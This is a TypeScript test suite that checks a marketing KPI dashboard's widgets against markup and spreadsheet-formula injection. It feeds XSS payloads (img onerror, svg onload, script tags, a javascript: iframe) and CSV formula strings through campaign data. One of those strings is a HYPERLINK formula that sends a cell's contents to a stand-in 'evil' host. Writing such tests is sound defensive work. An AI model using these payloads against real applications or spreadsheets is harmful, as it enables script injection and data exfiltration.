/**
 * Markup and CSV injection: campaign names, channel names and KPI labels holding HTML, SVG
 * and spreadsheet formulas render as text everywhere (tiles, tooltips, legends, tables,
 * CSV and SVG exports, accessible labels). No element is created from data, no handler
 * runs, and no exported cell starts a formula.
 */
import { expect, fixture, html } from '@open-wc/testing';
import '../../src/elements/kpi-board/define.js';
import '../../src/elements/kpi-tile/define.js';
import '../../src/elements/budget-gauge/define.js';
import '../../src/elements/campaign-chart/define.js';
import '../../src/elements/cohort-heatmap/define.js';
import type { PromoKpiBoard } from '../../src/elements/kpi-board/define.js';
import type { PromoWidget, PromoExportDetail } from '../../src/elements/shared/widget.js';
import { registerKpi, unregisterKpi } from '../../src/engine/kpis/registry.js';
import { deepElements, deepText, injectedNodes, isFormula, parseCsv } from './dom-audit.js';

declare global {
  interface Window {
    __pwned?: number;
  }
}

const PWN = 'window.__pwned=(window.__pwned||0)+1';
const PAYLOADS = [
  `<img src=x onerror="${PWN}">`,
  `<svg onload="${PWN}"><circle r=5></circle></svg>`,
  `"><script>${PWN}</script>`,
  `'><b id=injected onmouseover="${PWN}">x</b>`,
  `</text><foreignObject><iframe src="javascript:${PWN}"></iframe></foreignObject>`,
];
const FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

const campaigns = [...PAYLOADS, ...FORMULAS].map((name, i) => ({
  id: `C${i}`,
  name,
  start: '2026-11-01',
  end: '2026-11-30',
  budget: 1000 + i,
}));
// Channels are data too: each campaign's orders come from a channel named like a payload.
const channels = [...PAYLOADS, ...FORMULAS];
const orders = campaigns.flatMap((c, i) =>
  [0, 1, 2].map((k) => ({
    id: `o${i}-${k}`,
    customerId: `K${(i * 3 + k) % 7}`,
    time: `2026-11-0${1 + k}T10:00:00Z`,
    revenue: 100 + 10 * i + k,
    cogs: 40,
    campaignId: c.id,
    channel: channels[i],
  })),
);
const costs = campaigns.map((c) => ({ campaignId: c.id, date: '2026-11-02', amount: 50, category: PAYLOADS[1] }));
const DATA = { campaigns, orders, costs };

const LABEL_KPI = 'xssLabel';

async function capture(el: PromoWidget, format: 'csv' | 'svg'): Promise<PromoExportDetail | null> {
  let detail: PromoExportDetail | null = null;
  const on = (e: Event) => {
    e.preventDefault();
    detail = (e as CustomEvent<PromoExportDetail>).detail;
  };
  el.addEventListener('promo-export', on);
  try {
    await el.exportAs(format);
  } catch {
    // a widget without that export
  } finally {
    el.removeEventListener('promo-export', on);
  }
  return detail;
}

async function frames(n = 3): Promise<void> {
  for (let i = 0; i < n; i++) await new Promise((r) => requestAnimationFrame(() => r(null)));
}

describe('markup injection through data', () => {
  let board: PromoKpiBoard;

  before(() => {
    registerKpi({
      id: LABEL_KPI,
      label: { en: PAYLOADS[0]!, vi: PAYLOADS[2]! },
      description: { en: PAYLOADS[1]!, vi: PAYLOADS[1]! },
      unit: 'count',
      polarity: 'neutral',
      dailyField: 'orders',
      compute: (m) => m.orders,
    });
  });
  after(() => unregisterKpi(LABEL_KPI));

  beforeEach(async () => {
    window.__pwned = 0;
    board = await fixture<PromoKpiBoard>(
      html`<promo-kpi-board
        style="width: 1200px"
        .data=${DATA}
        from="2026-11-01"
        to="2026-11-07"
        time-zone="UTC"
        currency="VND"
        .kpis=${['revenue', 'roi', LABEL_KPI]}
        worker="never"
      ></promo-kpi-board>`,
    );
    await board.reportComplete();
    await frames();
  });

  function widgets(): PromoWidget[] {
    return deepElements(board).filter((e) =>
      /^promo-(kpi-tile|budget-gauge|campaign-chart|cohort-heatmap)$/.test(e.localName),
    ) as PromoWidget[];
  }

  it('renders every name as text: no element made from data, no handler run', async () => {
    const all = widgets();
    expect(all.map((w) => w.localName)).to.include.members([
      'promo-kpi-tile',
      'promo-campaign-chart',
      'promo-budget-gauge',
      'promo-cohort-heatmap',
    ]);
    // Open every table, focus and hover everything focusable (tooltips), let images load and fail.
    for (const w of all) {
      await w.updateComplete;
      for (const b of deepElements(w).filter((e) => e.getAttribute('data-action') === 'table'))
        (b as HTMLElement).click();
      await w.updateComplete;
      for (const el of deepElements(w).filter((e) => e.hasAttribute('tabindex'))) {
        (el as HTMLElement).focus();
        el.dispatchEvent(new PointerEvent('pointerenter', { bubbles: true }));
        el.dispatchEvent(new PointerEvent('pointermove', { bubbles: true, clientX: 200, clientY: 100 }));
        await w.updateComplete;
        expect(injectedNodes(board), 'while a tooltip shows').to.deep.equal([]);
      }
    }
    // Campaign filter <select>/<option> and the filter bar are data too.
    await new Promise((r) => setTimeout(r, 100));
    expect(injectedNodes(board)).to.deep.equal([]);
    expect(window.__pwned, 'a handler from data ran').to.equal(0);
    // ...and the payloads are there as text (names, channels and the KPI label).
    const text = deepText(board);
    for (const p of PAYLOADS) expect(text, p).to.include(p.replace(/\s+/g, ' ').slice(0, 18));
  });

  it('accessible labels carry the names as text', async () => {
    const labels = deepElements(board)
      .flatMap((e) => ['aria-label', 'aria-description', 'title', 'aria-valuetext'].map((a) => e.getAttribute(a)))
      .filter((v): v is string => !!v);
    expect(labels.some((l) => l.includes('<img src=x onerror='))).to.equal(true, 'a label names a campaign or KPI');
    expect(injectedNodes(board)).to.deep.equal([]);
  });

  it('CSV exports of every widget: names intact, no cell starts a formula', async () => {
    let files = 0;
    for (const w of widgets()) {
      const d = await capture(w, 'csv');
      if (!d) continue;
      files++;
      const rows = parseCsv(await d.blob.text());
      expect(rows.length, w.localName).to.be.greaterThan(1);
      for (const row of rows)
        for (const cell of row) expect(isFormula(cell), `${w.localName}: ${JSON.stringify(cell)}`).to.equal(false);
      const flat = rows.flat();
      if (w.localName === 'promo-campaign-chart' && (w as HTMLElement & { view?: string }).view !== 'trend') {
        // The comparison lists every campaign (the trend only those that sold in the period):
        // formula-like names are kept, behind a quote; markup stays as text.
        for (const f of FORMULAS)
          expect(
            flat.some((c) => c === `'${f}`),
            f,
          ).to.equal(true);
        for (const p of PAYLOADS) expect(flat, p).to.include(p);
      }
    }
    expect(files).to.be.greaterThanOrEqual(4);
    expect(window.__pwned).to.equal(0);
  });

  it('SVG exports: no script, handler or foreign element', async () => {
    let files = 0;
    for (const w of widgets()) {
      const d = await capture(w, 'svg');
      if (!d) continue;
      files++;
      const text = await d.blob.text();
      const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
      expect(doc.querySelector('parsererror'), `${w.localName} SVG parses`).to.equal(null);
      expect(injectedNodes(doc.documentElement), w.localName).to.deep.equal([]);
      expect(/<script|onerror=|onload=/i.test(text.replace(/&lt;[^&]*&gt;/g, '').replace(/"[^"]*"/g, ''))).to.equal(
        false,
      );
    }
    expect(files).to.be.greaterThanOrEqual(1);
  });

  it('a widget alone (no board) with hostile campaign names and an error message', async () => {
    const chart = await fixture<PromoWidget>(
      html`<promo-campaign-chart
        .report=${board.currentReport}
        .campaigns=${campaigns.map((c) => ({ id: c.id, name: c.name }))}
      ></promo-campaign-chart>`,
    );
    await frames();
    const err = await fixture<PromoWidget>(
      html`<promo-kpi-tile kpi="revenue" state="error" error-message=${PAYLOADS[0]!}></promo-kpi-tile>`,
    );
    await err.updateComplete;
    await new Promise((r) => setTimeout(r, 50));
    expect(injectedNodes(chart)).to.deep.equal([]);
    expect(injectedNodes(err)).to.deep.equal([]);
    expect(deepText(err)).to.include('<img src=x onerror=');
    expect(window.__pwned).to.equal(0);
  });
});
